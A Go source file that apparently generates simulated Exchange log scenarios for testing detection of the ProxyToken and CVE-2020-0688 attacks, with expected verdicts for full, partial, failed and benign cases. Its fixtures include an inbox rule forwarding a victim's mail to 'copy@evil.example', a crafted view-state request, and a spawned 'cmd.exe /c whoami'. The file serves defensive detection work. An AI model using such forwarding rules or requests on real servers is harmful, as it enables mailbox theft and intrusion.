package lab

const rulesPath = "/ecp/k.brandt@lab.example/RulesEditor/InboxRules.svc/NewObject"

// ruleRequest asks for a rule in somebody's mailbox.
func (p play) ruleRequest(s *server, at, stem, user, client string, status int) {
	s.web(request{at: p.at(at), protocol: "Ecp", method: "POST", stem: stem, query: "msExchEcpCanary=pT9dN2xvQ0eXw1", user: user, client: client, agent: tool, status: status})
}

func (p play) ruleMade(s *server, at, url string) {
	s.ecpCommand(p.at(at), url, "New-InboxRule.ForwardTo='copy@evil.example'.Name='x'", "")
	s.management(p.at(at), "New-InboxRule", `-ForwardTo "copy@evil.example" -Name "x" -Mailbox "k.brandt"`, "ECP")
}

func proxyTokenScenarios() []Scenario {
	c := &chapter{chain: "proxytoken"}
	p := play{day: "2021-07-20", build: Build{15, 2, 792, 10}}
	full := p
	full.acts = func(s *server) {
		p.ruleRequest(s, "13:02:10.100", rulesPath, "", intruder, 500)
		p.ruleRequest(s, "13:02:12.400", rulesPath, "", intruder, 200)
		p.ruleMade(s, "13:02:12.350", rulesPath)
	}
	made := p.won("proxytoken", "exploited", "rule-made", "13:02:10.100", "13:02:12.350", "13:02:12.400", intruder)
	c.tell(KindFull, "full", "Nobody was signed in; the error gave the token that the second request needs, and the rule was made.", full.evidence(whole), compromised(made))
	for _, w := range [][2]string{{"iis", "HttpProxy shows the same requests"}, {"httpproxy", "IIS shows the same requests"}} {
		want := made
		if w[0] == "httpproxy" { // IIS keeps whole seconds, so the control panel's row is the last
			want.Last = p.at("13:02:12.350")
		}
		c.tell(KindMissing, "without-"+w[0], "One source is missing: "+w[1]+".", full.evidence(without(w[0])), compromised(want))
	}
	c.tell(KindMissing, "without-ecp", "An answer of 200 is all there is of the rule; a server that answers everything looks the same.", full.evidence(without("ecp")),
		attempted("cannot-tell", p.tried("proxytoken", "cannot-tell", "rule-made", "13:02:10.100", "13:02:12.400", intruder)))
	c.tell(KindMissing, "only-ecp", "A rule made in somebody's mailbox looks like that of an administrator; no door log shows who asked.", full.evidence(only("ecp")), cannotTell())
	c.rest(full, compromised(made))
	behind := p
	behind.acts = func(s *server) {
		p.ruleRequest(s, "13:02:10.100", rulesPath, "", intruder, 500)
		p.ruleMade(s, "13:02:10.080", rulesPath)
	}
	c.tell(KindPartial, "made-behind-an-error", "The answer was an error, but the control panel's own log shows that the rule was made: an error is no refusal.", behind.evidence(whole),
		compromised(p.won("proxytoken", "exploited", "rule-command", "13:02:10.080", "13:02:10.080", "13:02:10.100", intruder)))
	tries := func(status int) play {
		q := p
		q.acts = func(s *server) { p.ruleRequest(s, "13:02:10.100", rulesPath, "", intruder, status) }
		return q
	}
	c.tell(KindAttempt, "refused", "The request was sent to the sign-in with 401.", tries(401).evidence(whole), attempted("failed", p.tried("proxytoken", "failed", "rule-request", "13:02:10.100", "13:02:10.100", intruder)))
	c.tell(KindAttempt, "error", "The answer was an error, which is no refusal here; the control panel's log goes on and shows no rule.", tries(500).evidence(whole), attempted("not-seen", p.tried("proxytoken", "not-seen", "rule-request", "13:02:10.100", "13:02:10.100", intruder)))
	c.tell(KindAttempt, "error-without-ecp", "The answer was an error, and the log that would show a rule is missing.", tries(500).evidence(without("ecp", "management")), attempted("cannot-tell", p.tried("proxytoken", "cannot-tell", "rule-request", "13:02:10.100", "13:02:10.100", intruder)))
	token := p
	token.acts = func(s *server) {
		s.web(request{at: p.at("13:02:10.100"), protocol: "Ecp", method: "GET", stem: "/ecp/k.brandt@lab.example/PersonalSettings/HomePage.aspx", query: "showhelp=false&SecurityToken=x", client: intruder, agent: tool, status: 500})
	}
	c.tell(KindAttempt, "token", "A security token without sign-in was answered with an error, and no rule followed.", token.evidence(whole), attempted("not-seen", p.tried("proxytoken", "not-seen", "rule-request", "13:02:10.100", "13:02:10.100", intruder)))
	own := p
	own.build = Build{15, 2, 1748, 39}
	own.acts = func(s *server) {
		p.ruleRequest(s, "13:02:10.100", "/ecp/RulesEditor/InboxRules.svc/NewObject", `LAB\k.brandt`, "192.0.2.60", 200)
		p.ruleMade(s, "13:02:10.050", "/ecp/RulesEditor/InboxRules.svc/NewObject")
		p.ruleRequest(s, "14:02:10.100", rulesPath, `LAB\Administrator`, "192.0.2.61", 200)
		p.ruleMade(s, "14:02:10.050", rulesPath)
	}
	c.tell(KindBenign, "own-rules", "Somebody made a rule for the own mailbox, and an administrator one for a user's, both signed in.", own.evidence(whole), nothingFound())
	return c.list
}

// viewState asks the control panel with a prepared view state.
func (p play) viewState(s *server, at string, status int) {
	s.web(request{at: p.at(at), protocol: "Ecp", method: "GET", stem: "/ecp/default.aspx", query: "__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=%2FwEyhAYAAQAAAP", user: stolen, client: intruder, agent: tool, status: status})
}

func (p play) viewStateError(s *server, at, text string) {
	url := "https://" + s.host + "/ecp/default.aspx?__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=%2FwEyhAYAAQAAAP"
	s.application(p.at(at), "MSExchange Control Panel", 4, 2, `LAB\a.lindqvist`, url, text)
	s.ecpCommand(p.at(at), "/ecp/default.aspx?__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=%2FwEyhAYAAQAAAP", "", text)
}

const (
	stateRead = "System.Web.HttpException: The state information is invalid for this page and might be corrupted. ---> System.ArgumentException: The serialized data is invalid."
	stateKey  = "System.Web.HttpException: Validation of viewstate MAC failed."
)

func viewStateScenarios() []Scenario {
	c := &chapter{chain: "cve-2020-0688"}
	p := play{day: "2020-03-10", build: Build{15, 2, 464, 5}}
	full := p
	full.acts = func(s *server) {
		p.viewState(s, "21:10:05.200", 500)
		p.viewStateError(s, "21:10:05.180", stateRead)
		s.spawned(p.at("21:10:05.150"), system32+"cmd.exe", "cmd.exe /c whoami")
	}
	ran := func(deepest, first, success string, from ...string) ChainWant {
		return p.won("cve-2020-0688", map[bool]string{true: "compromised", false: "exploited"}[deepest == "command"], deepest, first, success, "21:10:05.200", from...)
	}
	all := ran("command", "21:10:05.150", "21:10:05.150", intruder)
	c.tell(KindFull, "full", "The view state passed the key check, was read, and the web server ran a command in the same second; the answer was an error, as it always is.", full.evidence(whole), compromised(all))
	for _, w := range [][2]string{{"iis", "HttpProxy shows the same request"}, {"httpproxy", "IIS shows the same request"}, {"ecp", "the Application log shows the same error"}, {"application", "the ECP log shows the same error"}, {"security", "Sysmon shows the same command"}, {"sysmon", "the Security log shows the same command"}} {
		want := all
		if w[0] == "httpproxy" {
			want.Last = p.at("21:10:05.180")
		}
		c.tell(KindMissing, "without-"+w[0], "One source is missing: "+w[1]+".", full.evidence(without(w[0])), compromised(want))
	}
	c.tell(KindMissing, "without-door-logs", "The errors show that a prepared view state was read, and the command that it ran; they name no address.", full.evidence(without("iis", "httpproxy")),
		compromised(p.won("cve-2020-0688", "compromised", "command", "21:10:05.150", "21:10:05.150", "21:10:05.180")))
	c.tell(KindMissing, "without-processes", "The error shows that the view state was read, which runs what it holds; no log shows a command.", full.evidence(without("security", "sysmon")),
		compromised(ran("viewstate-read", "21:10:05.180", "21:10:05.180", intruder)))
	c.rest(full, compromised(all))
	only500 := p
	only500.acts = func(s *server) { p.viewState(s, "21:10:05.200", 500) }
	c.tell(KindAttempt, "error-only", "The answer is an error whether the code ran or not; the logs of processes go on and show none.", only500.evidence(whole), attempted("not-seen", p.tried("cve-2020-0688", "not-seen", "viewstate-request", "21:10:05.200", "21:10:05.200", intruder)))
	c.tell(KindAttempt, "error-only-no-processes", "The answer is an error whether the code ran or not, and no log of processes is there.", only500.evidence(without("security", "sysmon")),
		attempted("cannot-tell", p.tried("cve-2020-0688", "cannot-tell", "viewstate-request", "21:10:05.200", "21:10:05.200", intruder)))
	read := p
	read.acts = func(s *server) {
		p.viewState(s, "21:10:05.200", 500)
		p.viewStateError(s, "21:10:05.180", stateRead)
	}
	c.tell(KindPartial, "read-only", "The view state was read, which runs what it holds; the logs of processes go on and show no command.", read.evidence(whole), compromised(ran("viewstate-read", "21:10:05.180", "21:10:05.180", intruder)))
	key := p
	key.acts = func(s *server) {
		p.viewState(s, "21:10:05.200", 500)
		p.viewStateError(s, "21:10:05.180", stateKey)
	}
	c.tell(KindAttempt, "key-unknown", "The server noted that the view state was not made with its key, and read nothing of it; the web log alone cannot show that, so the outcome rests on the logs of processes.", key.evidence(whole),
		attempted("not-seen", p.tried("cve-2020-0688", "not-seen", "viewstate-request", "21:10:05.180", "21:10:05.200", intruder)))
	refused := p
	refused.acts = func(s *server) { p.viewState(s, "21:10:05.200", 404) }
	c.tell(KindAttempt, "refused", "The request was refused with 404.", refused.evidence(whole), attempted("failed", p.tried("cve-2020-0688", "failed", "viewstate-request", "21:10:05.200", "21:10:05.200", intruder)))
	form := p
	form.build = Build{15, 2, 1748, 39}
	form.acts = func(s *server) {
		s.web(request{at: p.at("10:00:00.100"), protocol: "Ecp", method: "POST", stem: "/ecp/default.aspx", query: "__VIEWSTATEGENERATOR=B97B4E27", user: `LAB\Administrator`, client: "192.0.2.61", agent: browser, status: 200})
		s.web(request{at: p.at("10:00:09.100"), protocol: "Ecp", method: "GET", stem: "/ecp/default.aspx", query: "p=Organization&exsvurl=1", user: `LAB\Administrator`, client: "192.0.2.61", agent: browser, status: 500})
		s.application(p.at("10:00:09.090"), "MSExchange Control Panel", 4, 2, `LAB\Administrator`, "https://"+s.host+"/ecp/default.aspx?p=Organization", "System.Web.HttpException: Request timed out.")
	}
	c.tell(KindBenign, "administrator", "An administrator's forms and an error of the control panel that has nothing to do with a view state.", form.evidence(whole), nothingFound())
	return c.list
}
